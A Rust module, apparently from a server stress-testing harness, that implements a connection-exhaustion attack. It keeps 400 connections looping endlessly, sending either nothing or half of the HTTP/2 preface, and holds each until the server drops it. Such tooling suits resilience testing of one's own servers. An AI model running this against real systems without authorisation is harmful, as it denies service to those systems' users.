//! Connections that send nothing, or the first half of HTTP/2's preface.

use futures::future::{FutureExt as _, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{Attack, Target, hostile};

/// Connections at once.
const CONNECTIONS: usize = 400;
/// The first half.
const HALF: &[u8] = b"PRI * HTTP/2.0\r\n";

/// The attack.
pub const ATTACK: Attack =
    Attack { name: "connections without a first byte", run: |target| run(target).boxed() };

async fn run(target: Target) -> anyhow::Result<()> {
    join_all((0..CONNECTIONS).map(|number| again_and_again(&target, number.is_multiple_of(2))))
        .await;
    Ok(())
}

async fn again_and_again(target: &Target, sends_half: bool) {
    loop {
        drop(hold(target, sends_half).await);
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

/// Waits until the server ends the connection.
async fn hold(target: &Target, sends_half: bool) -> std::io::Result<()> {
    let mut stream = hostile::connect(target).await?;
    if sends_half {
        stream.write_all(HALF).await?;
    }
    target.count(1);
    stream.read_to_end(&mut Vec::new()).await.map(drop)
}
